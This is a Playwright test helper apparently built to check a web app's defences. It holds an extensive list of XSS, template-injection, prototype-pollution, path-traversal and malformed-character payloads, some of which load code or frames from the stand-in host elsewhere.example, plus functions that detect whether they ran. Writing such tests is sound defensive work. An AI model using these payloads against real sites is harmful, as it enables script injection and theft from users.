import type { Page } from '@playwright/test';

/**
 * Texts that an attacker would enter wherever text can be entered. Those that run call `__ran`, which a test defines; those that
 * become an element have the id `injected`; those that load something ask `elsewhere.example`; those that pollute a prototype set
 * `polluted`.
 */

/** Endings of the places that a payload may be in: text, attributes, elements that contain only text, comments. */
const exits = ['', '">', "'>", '</script>', '</title></textarea></style></noscript></template>', '--!>]]>'];

const elements = [
  '<script id=injected>__ran()</script>',
  '<script id=injected src=//elsewhere.example/x.js></script>',
  '<ScRiPt/id=injected/type=module>__ran()</sCrIpT>',
  '<scr<script>ipt id=injected>__ran()</scr</script>ipt>',
  '<img id=injected src=x onerror=__ran()>',
  '<img/id=injected/src="x"/onerror="__ran()">',
  '<img id=injected src=https://elsewhere.example/x.png>',
  '<image id=injected src=x onerror=__ran()>',
  '<svg id=injected onload=__ran()>',
  '<svg id=injected><script>__ran()</script></svg>',
  '<svg id=injected><script href=data:text/javascript,__ran()></script></svg>',
  '<svg id=injected><animate onbegin=__ran() attributeName=x dur=1s>',
  '<svg id=injected><set onend=__ran() attributeName=x dur=1ms>',
  '<svg id=injected><use href="data:image/svg+xml,<svg id=x onload=__ran()>#x">',
  '<svg id=injected><foreignObject><iframe onload=__ran()></foreignObject></svg>',
  '<svg id=injected><a xlink:href=javascript:__ran()><text y=20>x</text></a></svg>',
  '<math id=injected><mtext><table><mglyph><style><img src=x onerror=__ran()>',
  '<body id=injected onload=__ran() onpageshow=__ran() onhashchange=__ran()>',
  '<details id=injected open ontoggle=__ran()>x</details>',
  '<video id=injected autoplay><source src=x onerror=__ran()></video>',
  '<audio id=injected src=x onerror=__ran()>',
  '<input id=injected autofocus onfocus=__ran()>',
  '<select id=injected autofocus onfocus=__ran()>',
  '<div id=injected tabindex=0 onanimationstart=__ran() onfocusin=__ran() onpointerenter=__ran()>x</div>',
  '<div id=injected popover onbeforetoggle=__ran()>x</div>',
  '<iframe id=injected srcdoc="<script>parent.__ran()</script>"></iframe>',
  '<iframe id=injected src=javascript:parent.__ran()></iframe>',
  '<iframe id=injected src=https://elsewhere.example/></iframe>',
  '<object id=injected data=javascript:__ran()></object>',
  '<embed id=injected src=//elsewhere.example/x.swf>',
  '<link id=injected rel=stylesheet href=//elsewhere.example/x.css onerror=__ran()>',
  '<link id=injected rel=prefetch href=//elsewhere.example/x>',
  '<style id=injected onload=__ran()>*{background:url(//elsewhere.example/x)}</style>',
  '<base id=injected href=//elsewhere.example/>',
  '<meta id=injected http-equiv=refresh content="0;url=//elsewhere.example/">',
  '<form id=injected action=//elsewhere.example/><button>x</button></form>',
  '<template id=injected shadowrootmode=open><img src=x onerror=__ran()></template>',
  '<x-y id=injected oncontentvisibilityautostatechange=__ran() style=content-visibility:auto>x</x-y>',
  '<a id=injected ping=//elsewhere.example/ href=javascript:__ran()>x</a>',
];

const addresses = [
  'javascript:__ran()',
  'JaVaScRiPt:__ran()',
  'java\tscript:__ran()',
  'java\nscript:__ran()',
  ' \u0001javascript:__ran()',
  'javascript&colon;__ran()',
  '&#106;avascript:__ran()',
  'javascript:/*--></title></style></textarea></script><svg/onload=__ran()>*/__ran()',
  'data:text/html,<script>__ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+',
  'vbscript:__ran()',
  'blob:https://elsewhere.example/1',
  '//elsewhere.example/x',
  '\\\\elsewhere.example\\x',
  'https:elsewhere.example',
  'https://elsewhere.example/?x=1#y',
];

const templates = [
  '{{constructor.constructor("__ran()")()}}',
  "{{$on.constructor('__ran()')()}}",
  '{{7*7}}__ran',
  '${__ran()}',
  '`${__ran()}`',
  '#{__ran()}',
  '<%= __ran() %>',
  '{%__ran()%}',
  '[[${__ran()}]]',
  '@{__ran()}',
  '{{{__ran()}}}',
  '{__ran()}',
  '{(() => { __ran() })()}',
  '"};__ran();//',
  "';__ran();//",
  "'-__ran()-'",
  '\\";__ran();//',
  '\u2028__ran()//',
  '\\u003cimg id=injected src=x onerror=__ran()>',
  '&lt;img id=injected src=x onerror=__ran()&gt;',
  '%3Cimg id=injected src=x onerror=__ran()%3E',
  '%253Cimg id=injected src=x onerror=__ran()%253E',
  '+ADw-script+AD4-__ran()+ADw-/script+AD4-',
];

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupSetter__',
  '__proto__.polluted',
  '__proto__[polluted]=1',
  'constructor.prototype.polluted=1',
  'constructor[prototype][polluted]=1',
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  '[{"__proto__":{"polluted":1},"path":"javascript:__ran()","title":"<img id=injected src=x onerror=__ran()>"}]',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '{}',
  '[]',
  '[null]',
  '{"path":1}',
];

const selectors = [
  '"]',
  "']",
  '*',
  ':has(*)',
  '#injected',
  '\\',
  '\\"',
  '"]{}*{',
  ')',
  '](',
  'app',
  'search',
  'page',
  'body',
];

const characters = [
  ...'\0\u0001\u0007\b\t\n\v\f\r\u001b\u007f\u0085\u00a0\u00ad\u034f\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029',
  ...'\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2060\ufeff\ufff9\ufffc\ufffd\uffff',
  '\ud800',
  '\udfff',
  '\u{e0041}\u{e007f}',
  '\u{10ffff}',
].map((character) => `a${character}b${character.repeat(3)}c`);

const long = [
  'a'.repeat(6000),
  'word '.repeat(1200),
  '<'.repeat(2000),
  '"'.repeat(2000),
  '('.repeat(2000),
  '['.repeat(2000),
  '\\'.repeat(2000),
  '%'.repeat(2000),
  '*'.repeat(2000),
  `${'a'.repeat(3000)}!`,
  `(a+)+$${'a'.repeat(500)}!`,
  'a\u0301'.repeat(700),
  `e${'\u0301'.repeat(1500)}`,
  '\u202e'.repeat(1000),
  '👩‍👩‍👧‍👦'.repeat(60),
  '<b>'.repeat(1000),
  '{"a":'.repeat(1000),
  `${'../'.repeat(1000)}etc/passwd`,
];

const inElements = exits.flatMap((exit) => elements.map((element) => exit + element));
export const payloads: readonly string[] = [
  ...inElements,
  ...addresses,
  ...templates,
  ...keys,
  ...selectors,
  ...characters,
  ...long,
];

/** A text as a part of an address, of 2000 characters at most. */
export const encoded = (text: string): string =>
  encodeURIComponent(text.replace(/\p{Cs}/gu, '\ufffd'))
    .slice(0, 2000)
    .replace(/%.?$/, '');

/** An element that is left open and takes what follows for its text. */
const swallows = /<(style|template|textarea|title|noscript|script|xmp|iframe|plaintext)\b(?![^]*<\/\1>)/i;

/**
 * All payloads, several in one text of at most 2000 characters, except those that are dangerous only as a whole value (addresses, keys
 * and selectors) and those that would swallow the others.
 */
export const bundled: string[] = [
  ...addresses,
  ...keys,
  ...selectors,
  ...inElements.filter((text) => swallows.test(text)),
];
let bundle = '';
for (const text of [...inElements.filter((one) => !swallows.test(one)), ...templates, ...characters, ...long]) {
  if (bundle && encoded(`${bundle} ${text}`).length > 1990) {
    bundled.push(bundle);
    bundle = '';
  }
  bundle += bundle ? ` ${text}` : text;
}
bundled.push(bundle);

/** What attacks have done to a page. */
export type Attacked = {
  readonly ran: number;
  /** What the policy refused. */
  readonly refused: readonly string[];
  readonly injected: number;
  readonly polluted: boolean;
};
export const unharmed: Attacked = { ran: 0, refused: [], injected: 0, polluted: false };

/** Records in `window.attacked` of every document, frames included, what runs and what the policy refuses. */
export const recordAttacks = (page: Page): Promise<unknown> =>
  page.addInitScript(() => {
    const state = { ran: 0, refused: [] as string[] };
    const run = (): void => void state.ran++;
    Object.assign(window, { attacked: state, __ran: run, alert: run, confirm: run, prompt: run });
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      state.refused.push(`${violatedDirective} ${blockedURI} ${sample}`),
    );
  });

/**
 * What the attacks have done to a page.
 * @param injected selects what came from a payload
 */
export const attacked = (page: Page, injected = '#injected'): Promise<Attacked> =>
  page.evaluate(
    (selector) => ({
      ...(window as unknown as { attacked: Pick<Attacked, 'ran' | 'refused'> }).attacked,
      injected: document.querySelectorAll(selector).length,
      polluted: 'polluted' in {},
    }),
    injected,
  );
